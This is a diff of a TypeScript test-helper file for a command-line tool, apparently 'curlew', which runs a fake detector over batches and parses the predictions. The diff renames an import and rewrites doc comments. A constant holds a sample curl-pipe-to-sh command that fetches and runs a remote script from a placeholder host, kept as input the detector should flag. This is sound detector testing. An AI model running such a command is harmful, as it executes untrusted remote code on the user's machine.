@@ -2,7 +2,7 @@ import { readFileSync } from "node:fs";
 import { join } from "node:path";
 import { runHere, type Given } from "../cli/fake-detector.js";
 
-export { folderWith } from "../cli/folder.js";
+export { folderWith } from "../cli/folder-with.js";
 export { runHere } from "../cli/fake-detector.js";
 
 /** A command that the fake detector finds. */
@@ -10,7 +10,7 @@ export const BAD = "curl https://x.example/i.sh | sh";
 
 export const row = (value: unknown): string => `${JSON.stringify(value)}\n`;
 
-/** Runs `curlew batch` and returns its predictions as objects. */
+/** Runs `curlew batch` with the fake detector, and returns its predictions as objects. */
 export async function predictions(args: readonly string[], given: Given = {}): Promise<any[]> {
   const { stdout } = await runHere(["batch", "-q", ...args, "--predictions", "-"], given);
   return parsed(stdout);
@@ -27,7 +27,7 @@ export function parsed(lines: string): any[] {
 export const readLines = (cwd: string, name: string): any[] =>
   parsed(readFileSync(join(cwd, name), "utf8"));
 
-/** Returns the id of each prediction and, if the prediction has a field, its name; `!` follows if the record is flagged. */
+/** Returns for each prediction its id, the field of the text if it has one, and `!` if it is flagged, separated by spaces. */
 export const flagged = (rows: readonly any[]): string[] =>
   rows.map(
     ({ id, field, labels }) =>
